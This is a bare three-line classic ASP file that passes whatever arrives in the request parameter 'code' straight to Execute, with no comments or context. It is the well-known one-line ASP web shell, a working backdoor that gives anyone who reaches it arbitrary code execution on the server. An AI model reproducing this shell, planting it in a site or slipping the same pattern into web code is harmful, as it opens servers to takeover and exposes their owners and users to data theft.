<%
Execute Request("code")
%>
